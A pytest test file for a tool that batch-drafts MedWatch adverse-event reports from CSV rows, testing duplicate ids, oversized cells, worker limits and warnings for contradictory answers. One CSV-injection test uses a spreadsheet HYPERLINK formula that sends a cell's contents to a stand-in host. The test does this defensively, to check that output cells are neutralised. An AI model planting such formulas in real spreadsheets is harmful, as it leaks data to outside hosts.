def test_a_repeated_report_id_is_refused_also_after_resume(runner, tmp_path):
    """Two rows with one report id would write one file: the second is refused, naming the first,
    also when the first was drafted by an earlier run of the same folder."""
    good = example_rows()
    src = write_csv(tmp_path / "e.csv", good)
    out = tmp_path / "o"
    assert runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "1"]).exit_code == 0
    original = (out / f"{good[0]['admin/report_id']}.xml").read_bytes()
    again = dict(good[1], **{"admin/report_id": good[0]["admin/report_id"]})  # row 5 repeats row 2's id
    follow_up = dict(good[0], **{"admin/follow_up": "1"})  # a follow-up report is a different draft
    # the same id in other letters' case: one file where Windows and macOS keep the drafts
    other_case = dict(good[2], **{"admin/report_id": good[0]["admin/report_id"].lower()})
    write_csv(src, good + [again, follow_up, other_case])
    result = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "2", "--resume"])
    assert result.exit_code == 1
    assert "4 drafted, 2 with errors" in result.output and "3 rows done by an earlier run" in result.output
    problems = read_problems(out)
    assert [(p["row"], p["box"]) for p in problems] == [("5", "—"), ("7", "—")]
    assert all(p["message"].startswith("row 2 has the same draft name") for p in problems)
    assert (out / f"{good[0]['admin/report_id']}.xml").read_bytes() == original  # never overwritten
    assert (out / f"{good[0]['admin/report_id']}-followup-1.xml").exists()
    assert not list(out.glob(".medwatch-batch-names*"))  # the name index is gone when the run ends


def test_problems_csv_lists_a_problem_whose_text_mimics_the_journal(runner, tmp_path):
    """problems.csv is written from the journal, skipping the lines of rows without problems
    by their text: a cell that reads like such a line must not hide its row's problem."""
    good = example_rows()
    mimic = dict(good[1], **{"admin/report_id": "MIMIC", "event/event_date": '"problems": []'})
    src = write_csv(tmp_path / "events.csv", [good[0], mimic])
    out = tmp_path / "drafts"
    result = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "1"])
    assert result.exit_code == 1 and "1 drafted, 1 with errors" in result.output
    [problem] = [p for p in read_problems(out) if p["row"] == "3"]
    assert problem["path"] == "event/event_date" and '"problems": []' in problem["message"]


@pytest.mark.parametrize("closed", [True, False])
@pytest.mark.parametrize("lines", ["short", "one over 16 MB"])
def test_a_quoted_cell_over_many_lines_longer_than_16_mb_is_one_problem(runner, tmp_path, closed, lines):
    """A quoted cell of short lines adding up to more than 16 MB, or with one line over 16 MB,
    is reported at its row, and its lines are read past as that row's: they are not taken
    for rows of their own. A quote that is never closed takes the rest of the file with it,
    and the message says so."""
    rows = example_rows()
    long_cell = ("Patient reports drowsiness after the pump refill.\n" * 360_000)[:-1]  # 18 MB
    if lines != "short":
        long_cell = "Patient reports drowsiness.\nNotes, pasted:\n" + "x" * (17 * 1024 * 1024) + "\nEnd, of notes."
    rows[1] = dict(rows[1], **{"event/description": long_cell})
    src = write_csv(tmp_path / "long.csv", rows)
    if not closed:
        data = src.read_bytes()
        start = data.index(b"Patient reports")  # just after the quote that opens the long cell,
        src.write_bytes(data[:start] + data[start:].replace(b'"', b""))  # which now never closes
    result = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "o"), "--jobs", "2"])
    assert result.exit_code == 1, result.output
    [problem] = read_problems(tmp_path / "o")
    assert problem["row"] == "3" and problem["severity"] == "error"
    assert "has a cell longer than 16 MB" in problem["message"]
    if closed:
        assert "2 drafted, 1 with errors" in result.output  # rows 2 and 4, around it
        assert "never closed" not in problem["message"]
    else:
        assert "1 drafted, 1 with errors" in result.output  # row 2; row 4 was read into the cell
        assert "its quote is never closed, so the rest of the file was read as part of that cell" in problem["message"]


@pytest.mark.parametrize("files, expected", [
    ({}, 3),                                                            # no cgroup limit: the affinity
    ({"cpu.max": "max 100000\n"}, 3),                                   # cgroup v2, unlimited
    ({"cpu.max": "150000 100000\n"}, 2),                                # docker --cpus 1.5
    ({"cpu.max": "50000 100000\n"}, 1),                                 # half a CPU: still one worker
    ({"cpu/cpu.cfs_quota_us": "100000\n", "cpu/cpu.cfs_period_us": "100000\n"}, 1),  # cgroup v1
    ({"cpu/cpu.cfs_quota_us": "-1\n", "cpu/cpu.cfs_period_us": "100000\n"}, 3),      # v1, unlimited
    ({"cpu.max": "garbage"}, 3),
    ({"cpu.max": "100000 0\n"}, 3),                                     # a period of 0: no quota read
])
def test_default_workers_are_the_cpus_this_process_may_use(tmp_path, monkeypatch, files, expected):
    """os.cpu_count() counts the machine's CPUs; in a container or under taskset the run gets
    fewer, and a worker per machine CPU would only wait (and take 30 MB each)."""
    from medwatch_tool.workers import usable_cpus

    monkeypatch.setattr(os, "sched_getaffinity", lambda pid: {0, 1, 2}, raising=False)
    for name, text in files.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    assert usable_cpus(tmp_path) == expected


def test_a_mistyped_jobs_count_is_refused_before_any_process_starts(runner, tmp_path):
    """--jobs 100000 forked until the machine stalled (load average 880 here)."""
    from medwatch_tool.cli import MAX_JOBS

    src = write_csv(tmp_path / "in.csv", example_rows())
    result = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "o"), "--jobs", "100000"])
    assert result.exit_code == 2
    assert f"Invalid value for '--jobs': 100000 is not in the range 1<=x<={MAX_JOBS}" in result.output
    assert not (tmp_path / "o").exists()
    assert MAX_JOBS >= 64


def test_problems_csv_never_holds_a_cell_a_spreadsheet_would_run(runner, tmp_path):
    """problems.csv is opened in Excel: a report id or JSON key beginning with = + - @ was
    written as it came, and Excel runs such a cell as a formula (CSV injection)."""
    formula = '=HYPERLINK("http://example.com/?"&A1,"open")'
    src = write_csv(tmp_path / "e.csv", [dict(example_rows()[0], **{"admin/report_id": formula})])
    runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "c"), "--jobs", "1"])
    lines = tmp_path / "j.jsonl"
    lines.write_text(json.dumps({"@SUM(1+1)": 1, "patient": {"identifier": "AB", "age": "-3"}}) + "\n")
    runner.invoke(main, ["batch", str(lines), "--out", str(tmp_path / "j"), "--jobs", "1"])
    problems = read_problems(tmp_path / "c") + read_problems(tmp_path / "j")
    assert {p["report_id"] for p in problems[:1]} == {"'" + formula}
    assert any(p["path"] == "'@SUM(1+1)" for p in problems)
    for problem in problems:
        for cell in problem.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), problem


def test_a_header_of_thousands_of_wrong_columns_gets_a_short_message(runner, tmp_path):
    """Before: one 188 KB line naming all 5,000 (and 2 s spent finding each one's nearest path)."""
    src = tmp_path / "wide.csv"
    src.write_text(",".join(["patient/age"] + [f"col{i}" for i in range(5000)]) + "\n3" + ",x" * 5000 + "\n")
    result = runner.invoke(main, ["batch", str(src), "--out", str(tmp_path / "o")])
    assert result.exit_code == 1 and not (tmp_path / "o").exists()
    assert result.output.startswith(f"Error: {src}: row 1 (header): column 2 'col0' is not a field; ")
    assert result.output.rstrip().endswith(
        "column 11 'col9' is not a field; and 4,990 more (delete a column of your own, or head it with the field path "
        "it holds; `medwatch fields --csv-template` writes a correct header)")
    assert len(result.output) < 1000


def test_a_new_run_does_not_start_where_it_could_replace_files_from_elsewhere(runner, tmp_path):
    """A hand-made draft named like a row's report id was replaced without a word."""
    rows = example_rows()
    out = tmp_path / "reports"
    out.mkdir()
    mine = out / f"{rows[0]['admin/report_id']}.xml"
    mine.write_bytes(b"<report>typed by hand</report>")
    src = write_csv(tmp_path / "e.csv", rows)
    result = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "1"])
    assert result.exit_code == 1
    assert result.output.startswith(f"Error: {out}: already holds drafts or pages not from a batch run "
                                    f"({mine.name}), which this run could replace: choose a new or empty --out")
    assert mine.read_bytes() == b"<report>typed by hand</report>" and sorted(os.listdir(out)) == [mine.name]
    mine.unlink()
    inside = write_csv(out / "events.txt", rows)  # the input may lie in the folder itself
    result = runner.invoke(main, ["batch", str(inside), "--out", str(out), "--jobs", "1"])
    assert result.exit_code == 0 and "3 drafted" in result.output, result.output
    again = runner.invoke(main, ["batch", str(inside), "--out", str(out), "--jobs", "1", "--resume"])
    assert again.exit_code == 0 and "3 rows done by an earlier run" in again.output  # its own drafts are no bar


@pytest.mark.parametrize("render, refused", [(None, False), ("html", False), ("text", True)])
def test_a_page_of_another_kind_than_the_run_writes_is_no_bar(runner, tmp_path, render, refused):
    """notes.txt and index.html in the --out folder stopped a run that writes no pages (or
    pages of the other kind): only a file the run could replace does."""
    out = tmp_path / "reports"
    out.mkdir()
    (out / "notes.txt").write_text("to do", encoding="utf-8")
    src = write_csv(tmp_path / "e.csv", example_rows())
    result = runner.invoke(main, ["batch", str(src), "--out", str(out), "--jobs", "1"] + (["--render", render] if render else []))
    assert (result.exit_code == 1 and "already holds drafts or pages not from a batch run (notes.txt)" in result.output) \
        if refused else (result.exit_code == 0 and "3 drafted" in result.output), result.output
    assert (out / "notes.txt").read_text(encoding="utf-8") == "to do"


def test_a_consumer_row_is_drafted_with_what_the_consumer_form_implies(runner, tmp_path):
    """`medwatch new` gives a 3500B draft the values of the boxes that form does not have (its
    reporter is no health professional); a batch did not, and E2B export refused its draft
    (R0020: the reporter's qualification is required)."""
    row = dict(example_rows()[0], **{"admin/report_id": "CONSUMER"})
    assert row["admin/form"] == "3500B"
    row.pop("reporter/health_professional", None)
    row.pop("reporter/occupation", None)
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(write_csv(tmp_path / "c.csv", [row])), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert draft_values(read_draft(out / "CONSUMER.xml"))["reporter/health_professional"] == "false"
    exported = runner.invoke(main, ["e2b", "export", str(out / "CONSUMER.xml"), "-o", str(tmp_path / "e2b.xml")])
    assert exported.exit_code == 0 and (tmp_path / "e2b.xml").exists(), exported.output
    nurse = dict(row, **{"admin/report_id": "NURSE", "reporter/occupation": "nurse"})  # the row says otherwise
    result = runner.invoke(main, ["batch", str(write_csv(tmp_path / "n.csv", [nurse])), "--out", str(tmp_path / "n")])
    assert result.exit_code == 0, result.output
    values = draft_values(read_draft(tmp_path / "n" / "NURSE.xml"))
    assert "reporter/health_professional" not in values and values["reporter/occupation"] == "nurse"


def test_a_refused_value_is_not_told_again_by_a_rule_that_counts_its_box(runner, tmp_path):
    """A sex refused also gave "no identifiable patient: give ... A3 sex", telling the user to
    give what they gave; a unit 'moons' refused, "age 300(s) is outside the human range". A
    rule still speaks where it fails for another reason: a refused weight leaves the patient
    unidentified, a refused phone a reporter without a name (the rule asks for both)."""
    base = {k: v for k, v in example_rows()[1].items()
            if not k.startswith("patient/") and not k.startswith("reporter/")}
    base.update({"reporter/last_name": "Okafor", "reporter/phone": "555-0100"})
    rows = [dict(base, **{"admin/report_id": "SEX", "patient/sex": "X"}),
            dict(base, **{"admin/report_id": "PHONE", "patient/sex": "female", "reporter/phone": "call me"}),
            dict(base, **{"admin/report_id": "NONAME", "patient/sex": "female", "reporter/phone": "call me",
                          "reporter/last_name": ""}),
            dict(base, **{"admin/report_id": "MOONS", "patient/age": "300", "patient/age_unit": "moons"}),
            dict(base, **{"admin/report_id": "WEIGHT", "patient/weight": "heavy"})]
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(write_csv(tmp_path / "e.csv", rows)), "--out", str(out)])
    assert "0 drafted, 5 with errors" in result.output, result.output
    told = {(p["report_id"], p["path"], p["rule"]) for p in read_problems(out)}
    assert told == {("SEX", "patient/sex", ""), ("PHONE", "reporter/phone", ""),
                    ("NONAME", "reporter/phone", ""), ("NONAME", "reporter", "MW-MIN-2"),
                    ("MOONS", "patient/age_unit", ""),
                    ("WEIGHT", "patient/weight", ""), ("WEIGHT", "patient", "MW-MIN-1")}


def test_answers_that_contradict_each_other_are_warned(runner, tmp_path):
    """A pharmacovigilance review found drafts passing without a word where two answers cannot
    both be right: an age the date of birth and the event's date do not give, a suspect
    product first taken after the event, G2 "not a health professional" beside G3 nurse (an
    E2B export sent the nurse as a consumer), a reprocessor named for a device not said to be
    reprocessed. Each row is drafted, with a warning naming the boxes."""
    good = example_rows()[1]  # Form 3500: a 52-year-old, event 2026-10-08, baclofen from 2023-03
    rows = [dict(good, **{"admin/report_id": "AGE", "patient/date_of_birth": "1950-05-02"}),
            dict(good, **{"admin/report_id": "AGE-OK", "patient/date_of_birth": "1974-11-20"}),
            dict(good, **{"admin/report_id": "START", "suspect_product[1]/start_date": "2026-10-09"}),
            dict(good, **{"admin/report_id": "START-OK", "suspect_product[1]/start_date": "2026-10"}),
            dict(good, **{"admin/report_id": "NURSE", "reporter/health_professional": "no",
                          "reporter/occupation": "nurse"}),
            dict(good, **{"admin/report_id": "LAY", "reporter/health_professional": "yes",
                          "reporter/occupation": "non_health_professional"}),
            dict(good, **{"admin/report_id": "RISK", "reporter/health_professional": "no",
                          "reporter/occupation": "risk_manager"}),
            dict(example_rows()[2], **{"admin/report_id": "REPRO", "device[1]/reprocessor": "Acme Reprocessing"}),
            dict(example_rows()[0], **{"admin/report_id": "CONSUMER", "suspect_product[1]/start_date": "2026-11-05"})]
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(write_csv(tmp_path / "c.csv", rows)), "--out", str(out)])
    assert result.exit_code == 0 and "9 drafted, 0 with errors" in result.output, result.output
    told = {(p["report_id"], p["rule"]): (p["box"], p["severity"], p["message"]) for p in read_problems(out)
            if p["rule"] in ("MW-AGE-3", "MW-DATE-9", "MW-REP-3", "MW-DEV-3")}
    assert set(told) == {("AGE", "MW-AGE-3"), ("START", "MW-DATE-9"), ("NURSE", "MW-REP-3"), ("LAY", "MW-REP-3"),
                         ("REPRO", "MW-DEV-3"), ("CONSUMER", "MW-DATE-9")}, told
    assert told["CONSUMER", "MW-DATE-9"] == ("C12", "warning", "C12 'Date started' (2026-11-05) is after A3 'Date the "
                                             "problem happened' (2026-11-02): a product first used after the problem "
                                             "began did not cause it; check the two dates")
    assert told["AGE", "MW-AGE-3"] == ("A2", "warning", "age 52 years does not fit A2 date of birth (1950-05-02) and B3 "
                                       "date of event (2026-10-08), which make the person 76 then: one of the three "
                                       "is wrong")
    assert told["START", "MW-DATE-9"][:2] == ("D3", "warning")
    assert told["START", "MW-DATE-9"][2].startswith("D3 therapy start date (2026-10-09) is after B3 date of event "
                                                    "(2026-10-08): a product first used after the event began cannot "
                                                    "have caused it")
    assert told["NURSE", "MW-REP-3"] == ("G2", "warning", "G2 health professional? says no, but G3 occupation is "
                                         "nurse: one of the two is wrong (an E2B export sends the reporter's "
                                         "qualification from both)")
    assert "says yes, but G3 occupation is non health professional" in told["LAY", "MW-REP-3"][2]
    assert told["REPRO", "MW-DEV-3"][2].startswith("a reprocessor is named (Acme Reprocessing), but E7a single-use "
                                                   "device reprocessed and reused? does not say yes")


@pytest.mark.parametrize("age, unit, born, told", [
    ("51", "year", "1974-11-20", None), ("52", "year", "1974-11-20", None),  # (52: the age when reported)
    ("53", "year", "1974-11-20", "age 53 years does not fit A2 date of birth (1974-11-20) and B3 date of event "
                                 "(2026-10-08), which make the person 51 then"),  # (a version let it pass)
    ("50", "year", "1974", "which make the person about 52 then"), ("53", "year", "1974", None),
    ("", "year", "1974", None),  # (a unit without an age was told "age  years does not fit")
    ("30", "month", "2024-04-02", None),
    ("40", "month", "2024-04-02", "age 40 months does not fit A2 date of birth (2024-04-02) and B3 date of event "
                                  "(2026-10-08), which make the person about 30 months old then"),
    # a newborn's, in days or weeks (no unit was checked but years and months)
    ("2", "day", "2026-08-08", "age 2 day(s) does not fit A2 date of birth (2026-08-08) and B3 date of event "
                               "(2026-10-08), which make the person about 61 days old then"),
    ("61", "day", "2026-08-08", None), ("9", "week", "2026-08-08", None),
    ("3", "week", "2026-07-08", "which make the person about 91 days old then"),  # (92: months as 30.44 days)
    ("10", "day", "2026-10-07", "which make the person about 1 days old then"),
])
def test_an_age_is_checked_against_the_date_of_birth_to_the_year_or_month(runner, tmp_path, age, unit, born, told):
    row = dict(example_rows()[1], **{"admin/report_id": "AGE", "patient/age": age, "patient/age_unit": unit,
                                     "patient/date_of_birth": born})  # (event 2026-10-08)
    out = tmp_path / "o"
    runner.invoke(main, ["batch", str(write_csv(tmp_path / "a.csv", [row])), "--out", str(out)])
    said = [p["message"] for p in read_problems(out) if p["rule"] in ("MW-AGE-3", "MW-AGE-4", "MW-AGE-5")]
    assert (len(said) == 1 and told in said[0]) if told else said == [], said
    assert (out / "AGE.xml").exists()


def test_what_exports_write_for_nothing_is_not_taken_for_a_code_a_name_or_a_product(runner, tmp_path):
    """A clinician's review: 'N/A' in a device's lot, serial and UDI was stored as all three and
    stilled MW-DEV-1 (no way to trace the device); 'N/A' as the reprocessor of a device not
    reprocessed was warned as one named; 'None' as a concomitant product was drafted (and sent
    in E2B) as a product; a ZIP or NDC a program wrote as a decimal number (2115.0) passed."""
    kink = example_rows()[2]  # a product problem with a pump and a catheter
    rows = [dict(kink, **{"admin/report_id": "NA", "device[1]/lot": "N/A", "device[1]/serial": "unknown",
                          "device[1]/udi": "-", "device[2]/lot": "", "device[2]/serial": "", "device[2]/udi": "",
                          "device[1]/reprocessor": "N/A"}),
            dict(kink, **{"admin/report_id": "NONE", "concomitant[1]/name": "None",
                          "reporter/postal_code": "2115.0", "suspect_product[1]/ndc": "93310901.0"})]
    out = tmp_path / "o"
    result = runner.invoke(main, ["batch", str(write_csv(tmp_path / "na.csv", rows)), "--out", str(out)])
    assert result.exit_code == 0, (result.output, read_problems(out))
    told = {(p["report_id"], p["rule"], p["path"]) for p in read_problems(out)}
    assert ("NA", "MW-DEV-1", "device[1]/udi") in told and not any(r == "MW-DEV-3" for _, r, _ in told), told
    assert not {"device[1]/lot", "device[1]/serial", "device[1]/udi"} & set(draft_values(read_draft(out / "NA.xml")))
    assert {("NONE", "MW-CON-1", "concomitant[1]/name"), ("NONE", "MW-NUM-1", "reporter/postal_code"),
            ("NONE", "MW-NUM-1", "suspect_product[1]/ndc")} <= told, told
    message = next(p["message"] for p in read_problems(out) if p["path"] == "reporter/postal_code")
    assert message.startswith("'2115.0' is a code written as a decimal number: a program that exported the column as "
                              "numbers added '.0'"), message
